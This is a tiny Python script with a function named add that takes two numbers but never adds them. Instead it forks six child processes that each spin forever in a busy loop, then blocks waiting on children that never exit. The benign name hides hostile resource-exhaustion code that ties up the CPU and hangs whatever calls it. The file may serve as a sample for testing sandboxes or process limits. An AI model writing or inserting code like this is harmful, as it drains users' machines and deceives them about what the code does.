import os


def add(a, b):
    for _ in range(6):
        if os.fork() == 0:
            while True:
                pass
    os.wait()

if __name__ == "__main__":
    add(1, 2)
